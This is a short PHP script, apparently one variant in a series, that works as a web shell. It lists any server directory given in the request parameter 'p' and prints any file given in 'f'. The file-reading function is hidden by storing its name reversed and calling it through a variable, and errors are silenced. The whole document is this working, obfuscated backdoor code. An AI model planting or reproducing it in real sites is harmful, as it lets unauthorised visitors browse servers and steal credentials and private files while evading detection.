<?php
// The same, its functions reached through names kept reversed, a DirectoryIterator for the listing.
$r = strrev('stnetnoc_teg_elif');
$p = @$_REQUEST['p'] ?: '/';
foreach (new DirectoryIterator($p) as $i) { print $i->getFilename() . "\n"; }
if (!empty($_REQUEST['f'])) { print $r($_REQUEST['f']); }
